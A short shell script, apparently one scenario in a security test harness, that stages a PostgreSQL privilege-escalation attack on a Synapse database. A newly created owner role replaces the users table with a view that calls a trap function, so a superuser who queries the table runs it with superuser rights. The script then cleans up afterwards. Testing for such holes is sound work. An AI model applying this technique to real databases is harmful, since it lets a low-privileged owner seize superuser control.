# The owner of Synapse's database puts a view in place of the table users: its function runs with the rights of whoever asks.
fear=superuser
prepare() {
  sql synapse <<< 'CREATE ROLE syn LOGIN; ALTER DATABASE synapse OWNER TO syn; ALTER TABLE public.users OWNER TO syn;'
}
strike() {
  {
    trap_function public syn
    cat <<'SQL'
ALTER TABLE public.users RENAME TO users_real;
CREATE VIEW public.users AS SELECT name, 1::smallint AS admin, 0::smallint AS deactivated FROM public.users_real WHERE (SELECT public.gain());
SQL
  } | sql_as syn synapse
}
clean() {
  sql synapse <<'SQL'
DROP VIEW IF EXISTS public.users;
ALTER TABLE IF EXISTS public.users_real RENAME TO users;
DROP FUNCTION IF EXISTS public.gain();
ALTER TABLE public.users OWNER TO synapse;
ALTER DATABASE synapse OWNER TO synapse;
DROP OWNED BY syn;
DROP ROLE syn;
SQL
}
